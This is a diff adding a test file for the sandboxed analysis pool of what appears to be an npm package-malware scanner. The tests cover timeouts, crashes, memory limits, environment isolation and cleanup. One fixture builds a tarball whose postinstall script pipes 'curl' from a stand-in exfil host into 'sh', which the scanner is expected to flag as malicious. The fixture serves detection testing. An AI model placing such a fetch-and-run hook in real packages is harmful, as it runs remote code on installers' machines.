@@ -1,0 +1,151 @@
+import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { type AnalysisResult, analysisResultSchema } from '@weir/model';
+import { tarball } from '@weir/testkit/archive';
+import { afterAll, describe, expect, test } from 'vitest';
+import { createAnalysisPool } from './pool.ts';
+
+const UNRULY = new URL('./testing/unruly-child.ts', import.meta.url);
+const OPTIONS = { workersMax: 2, memoryMbMax: 192, deadlineMs: 15_000, idleMs: 60_000 };
+const dir = mkdtempSync(join(tmpdir(), 'weir-pool-test-'));
+afterAll(() => rmSync(dir, { recursive: true, force: true }));
+const never = new AbortController().signal;
+
+function input(
+  filename: string,
+  content: string | Uint8Array = 'bytes',
+): Parameters<ReturnType<typeof createAnalysisPool>['analyze']>[0] {
+  const path = join(dir, filename.replaceAll('/', '_'));
+  writeFileSync(path, content);
+  return { path, filename, ecosystem: 'npm', release: null, facts: null };
+}
+
+function scratchFolders(): string[] {
+  return readdirSync(tmpdir()).filter((name) => name.startsWith('weir-analysis-'));
+}
+
+describe('a child that misbehaves', () => {
+  test.each([
+    ['loop', 'analysis/timeout', 300],
+    ['regex', 'analysis/timeout', 300],
+    ['heap', 'analysis/(?:crash|memory)', 15_000],
+    ['buffers', 'analysis/memory', 15_000],
+    ['segfault', 'analysis/crash', 15_000],
+    ['exit', 'analysis/crash', 15_000],
+  ])(
+    '%s ends inconclusive with a scored finding, and the pool goes on',
+    async (behaviour, rule, deadlineMs) => {
+      await using pool = createAnalysisPool(
+        { ...OPTIONS, deadlineMs },
+        { entry: UNRULY, rulesetVersion: 'test' },
+      );
+
+      const result = await pool.analyze(input(behaviour), never);
+
+      expect(analysisResultSchema.safeParse(result).success).toBe(true);
+      expect(result.judgement).toMatchObject({ verdict: 'inconclusive', complete: false, level: 'low' });
+      expect(result.judgement.score).toBeGreaterThan(0);
+      expect(result.findings[0]?.rule).toMatch(new RegExp(`^${rule}$`));
+      expect(result.findings[0]?.summary).toContain('2 times');
+      expect(result.artifact.sizeBytes).toBe(5);
+    },
+  );
+
+  test('an answered error is retried once and told', async () => {
+    await using pool = createAnalysisPool(OPTIONS, { entry: UNRULY, rulesetVersion: 'test' });
+
+    const result = await pool.analyze(input('report'), never);
+
+    expect(result.findings[0]?.rule).toBe('analysis/error');
+    expect(result.findings[0]?.summary).toContain('2 times');
+  });
+});
+
+test('a child sees no variable of ours, cannot start processes and writes only to its scratch folder', async () => {
+  await using pool = createAnalysisPool(OPTIONS, { entry: UNRULY, rulesetVersion: 'test' });
+
+  const result = await pool.analyze(input('report'), never);
+
+  const summary = result.findings[0]?.summary ?? '';
+  const env = /"env":(?<list>\[[^\]]*\])/.exec(summary)?.groups?.list ?? 'null';
+  const allowed = [
+    'NODE_CHANNEL_FD',
+    'NODE_CHANNEL_SERIALIZATION_MODE',
+    'TEMP',
+    'TMP',
+    'TMPDIR',
+    'SystemRoot',
+    'SYSTEMROOT',
+  ];
+  expect((JSON.parse(env) as string[]).filter((name) => !allowed.includes(name))).toEqual([]);
+  expect(summary).toContain('"rights":{"child":false,"write":false}');
+});
+
+test('aborting rejects with the reason and kills the child', async () => {
+  await using pool = createAnalysisPool(
+    { ...OPTIONS, deadlineMs: 60_000 },
+    { entry: UNRULY, rulesetVersion: 'test' },
+  );
+  const stop = new AbortController();
+
+  const pending = pool.analyze(input('loop'), stop.signal);
+  stop.abort(new Error('enough'));
+
+  await expect(pending).rejects.toThrow('enough');
+});
+
+test('closing the pool leaves no child and no scratch folder behind', async () => {
+  const before = scratchFolders().length;
+  const pool = createAnalysisPool(OPTIONS, { entry: UNRULY, rulesetVersion: 'test' });
+  await pool.analyze(input('exit'), never);
+
+  await pool[Symbol.asyncDispose]();
+
+  expect(scratchFolders().length).toBeLessThanOrEqual(before);
+  await expect(pool.analyze(input('exit'), never)).rejects.toMatchObject({ code: 'ANALYSIS_CLOSED' });
+});
+
+describe('the real child', () => {
+  const ATTACK = tarball()
+    .file(
+      'package/package.json',
+      JSON.stringify({
+        name: 'x',
+        version: '1.0.0',
+        scripts: { postinstall: 'curl -s http://exfil.weir.test/a | sh' },
+      }),
+    )
+    .build();
+
+  test('analyses tarballs side by side and measures the bytes', async () => {
+    await using pool = createAnalysisPool({ ...OPTIONS, memoryMbMax: 512, deadlineMs: 20_000 });
+    const benign = tarball()
+      .file('package/package.json', '{"name":"b","version":"1.0.0"}')
+      .file('package/index.js', 'module.exports = 1')
+      .build();
+
+    const [attack, quiet, broken]: AnalysisResult[] = await Promise.all([
+      pool.analyze(input('attack.tgz', ATTACK), never),
+      pool.analyze(input('quiet.tgz', benign), never),
+      pool.analyze(input('broken.tgz', 'no archive'), never),
+    ]);
+
+    expect(attack?.judgement).toMatchObject({ verdict: 'malicious', level: 'critical', complete: true });
+    expect(quiet?.judgement).toMatchObject({ verdict: 'benign', complete: true });
+    expect(broken?.judgement).toMatchObject({ verdict: 'inconclusive', complete: false });
+    expect(attack?.artifact.digests).toMatchObject({ sha256: attack?.artifact.sha256 });
+    expect(Object.keys(attack?.artifact.digests ?? {}).sort()).toEqual(['sha1', 'sha256', 'sha512']);
+    expect(attack?.rulesetVersion).toBe(pool.rulesetVersion);
+  });
+
+  test('a path that is not there is ANALYSIS_INPUT', async () => {
+    await using pool = createAnalysisPool(OPTIONS);
+    const missing = { ...input('gone.tgz'), path: join(dir, 'nothing-here') };
+
+    await expect(pool.analyze(missing, never)).rejects.toMatchObject({
+      code: 'ANALYSIS_INPUT',
+      retriable: false,
+    });
+  });
+});
